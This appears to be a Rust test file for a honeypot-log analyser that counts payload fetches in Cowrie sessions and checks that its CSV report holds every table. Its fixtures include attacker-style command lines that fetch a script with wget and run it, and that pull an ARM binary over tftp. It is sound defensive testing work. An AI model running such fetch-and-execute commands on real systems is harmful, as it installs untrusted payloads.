            csv.contains("busybox_tokens,1,OKIRU,,,2,,Okiru (Mirai fork),")
                && csv.contains("busybox_tokens,2,NEWBOT,,,1,,,")
                && csv.contains(" bots=Okiru (Mirai fork)"),
            "{csv}"
        );
        let json = rendered(&r, OutputFormat::Json);
        assert!(
            json.contains(r#""value": "NEWBOT","#) && json.contains(r#""variant": null"#),
            "{json}"
        );
    }
}

/// A Cowrie record of a download (`session.file_download`) is the fetch a command
/// line of its session asked for: the payload host counts it once, matched by host,
/// port and file name, whichever worker read which row of the session.
#[test]
fn recorded_downloads_of_commanded_fetches_count_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("cowrie.json");
    let record = |eventid: &str, session: &str, second: u32, extra: serde_json::Value| {
        let mut v = serde_json::json!({
            "eventid": eventid,
            "session": session,
            "src_ip": format!("198.51.100.{}", 40 + session.len()),
            "timestamp": format!("2024-06-02T10:00:{second:02}.000000Z"),
        });
        if let (Some(v), serde_json::Value::Object(extra)) = (v.as_object_mut(), extra) {
            v.extend(extra);
        }
        v.to_string()
    };
    let cmd = |session: &str, second: u32, input: &str| {
        record(
            "cowrie.command.input",
            session,
            second,
            serde_json::json!({ "input": input }),
        )
    };
    let fetched = |session: &str, second: u32, url: &str| {
        record(
            "cowrie.session.file_download",
            session,
            second,
            serde_json::json!({ "url": url, "shasum": H1 }),
        )
    };
    let mut lines = vec![
        // One wget, its record: one attempt.
        cmd("a", 1, "cd /tmp; wget http://192.0.2.50/x.sh; sh x.sh"),
        fetched("a", 2, "http://192.0.2.50/x.sh"),
        // A record no command line asked for (a script's fetch): one attempt.
        fetched("bb", 3, "http://192.0.2.50/y.sh"),
        // Two lines fetching the same file, one record (the second failed): two.
        cmd("ccc", 4, "wget http://192.0.2.50/x.sh"),
        cmd("ccc", 5, "wget http://192.0.2.50/x.sh"),
        record(
            "cowrie.session.file_download.failed",
            "ccc",
            6,
            serde_json::json!({ "url": "http://192.0.2.50/x.sh" }),
        ),
        // tftp: the command names the file, Cowrie's URL its path; another
        // session's identical record is not matched by this one's command.
        cmd("dddd", 7, "tftp -g -r bins/m.arm 192.0.2.51"),
        fetched("dddd", 8, "tftp://192.0.2.51/bins/m.arm"),
        fetched("eeeee", 9, "tftp://192.0.2.51/bins/m.arm"),
        // Another port is another fetch.
        cmd("ffffff", 10, "wget http://192.0.2.52:8080/z"),
        fetched("ffffff", 11, "http://192.0.2.52/z"),
    ];
    // Padding between the rows of the sessions, so that small blocks cut between a
    // session's command and its record (which worker takes which block is up to
    // the scheduler: agg's unit test `a_fetch_split_between_workers_counts_once`
    // splits a session between two workers for certain).
    lines = lines
        .into_iter()
        .flat_map(|l| {
            [
                l,
                record("cowrie.session.connect", "pad", 0, serde_json::json!({})),
            ]
        })
        .collect();
    std::fs::write(&path, lines.join("\n")).expect("write");
    for (threads, block_size) in [(1, 0), (3, 0), (3, 200), (2, 120)] {
        let opts = Options {
            threads,
            block_size,
            ..Options::default()
        };
        let r = run_with(&[path.display().to_string()], &opts);
        let what = format!("{threads} threads, {block_size}-byte blocks");
        assert_eq!(r.totals.bad_rows, 0, "{what}: {:?}", r.bad_rows);
        assert_eq!(r.totals.recorded_downloads, 6, "{what}: every record");
        let hosts: Vec<(&str, u64, Vec<&str>)> = (r.payload_hosts.iter())
            .map(|p| {
                let methods = p.methods.iter().map(String::as_str).collect();
                (p.host.as_str(), p.attempts, methods)
            })
            .collect();
        assert_eq!(
            hosts,
            [
                ("192.0.2.50", 4, vec!["http", "wget"]),
                ("192.0.2.51", 2, vec!["tftp"]),
                ("192.0.2.52", 2, vec!["http", "wget"]),
            ],
            "{what}"
        );
    }
}

/// The long CSV holds every table the text report shows (the docs promise "every
/// table"): on logs that fill them all, each table name appears, and the rows of
/// the tables added in session 12 carry their values.
#[test]
fn csv_has_every_table() {
    let inputs = [
        fixture("seed_heralding.csv"),
        fixture("cowrie.json"),
        fixture("cowrie_iocs.json"),
        fixture("cowrie_keys.json"),
        fixture("opencanary.json"),
    ];
    let r = run_with(&inputs, &Options::default());
    let csv = rendered(&r, OutputFormat::Csv);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV row")).collect();
    let tables: std::collections::BTreeSet<&str> = rows.iter().filter_map(|r| r.get(0)).collect();
    for table in [
        "totals",
        "time_range",
        "inputs",
        "sessions",
        "session_entries_histogram",
        "longest_sessions",
        "protocols",
        "ports",
        "top_sources",
        "top_source_clients",
        "top_source_names",
        "top_usernames",
        "top_passwords",
        "top_pairs",
        "top_credential_usernames",
        "top_credential_passwords",
        "top_credentials",
        "top_commands",
        "top_client_versions",
        "top_client_env",
        "top_terminal_sizes",
        "top_hassh",
        "hassh_algorithms",
        "timeline",
        "families",
        "iot_default_credentials",
        "busybox_tokens",
        "payload_hosts",
        "downloads",
        "payload_hashes",
        "tty_inputs",
        "tunnel_destinations",
        "ssh_keys",
        "campaigns",
    ] {
        assert!(tables.contains(table), "no {table} rows in:\n{csv}");
    }
    let find = |table: &str, value: &str| {
        rows.iter()
            .find(|r| r.get(0) == Some(table) && r.get(2) == Some(value))
            .map(|r| r.iter().collect::<Vec<_>>())
    };
    let seed = fixture("seed_heralding.csv");
    assert_eq!(
        find("inputs", &seed),
        Some(vec![
            "inputs",
            "1",
            seed.as_str(),
            "",
            "",
            "19",
            "Heralding auth CSV (10 columns)",
            "",
            "bad_rows=0"
        ])
    );
    assert_eq!(
        find("downloads", "185.35.139.97"),
        Some(vec![
            "downloads",
            "1",
            "185.35.139.97",
            "",
            "",
            "2",
            "tftp",
            "",
            "file=7up"
        ])
    );
    assert_eq!(
        find("totals", "distinct_credentials").map(|r| r[5].to_string()),
        Some(r.totals.distinct_credentials.to_string())
    );
    assert_eq!(
        find("sessions", "total").map(|r| r[5].to_string()),
        Some(r.sessions.total.to_string())
    );
    let longest = rows
        .iter()
        .filter(|r| r.get(0) == Some("longest_sessions"))
        .count();
    assert_eq!(longest, r.sessions.top.len());
    let defaults = rows
        .iter()
        .filter(|r| r.get(0) == Some("iot_default_credentials"))
        .count();
    assert_eq!(defaults, r.iot.top_default_credentials.len());
}
